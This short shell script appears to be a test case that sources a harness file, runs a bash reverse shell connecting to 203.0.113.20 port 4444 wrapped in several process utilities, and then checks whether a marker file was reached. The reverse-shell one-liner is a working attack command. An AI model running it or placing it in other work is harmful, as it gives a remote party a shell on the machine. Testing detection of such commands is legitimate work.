#!/bin/sh
. /opt/case/case.sh

bash -c 'exec 7<>/dev/tcp/203.0.113.20/4444; exec setarch -R prlimit --nofile=64 choom -n 0 -- nice -n 1 ionice -c 3 flock -n /tmp/.l /bin/sh <&7 >&7 2>&1'
test -e /tmp/reached
took_place
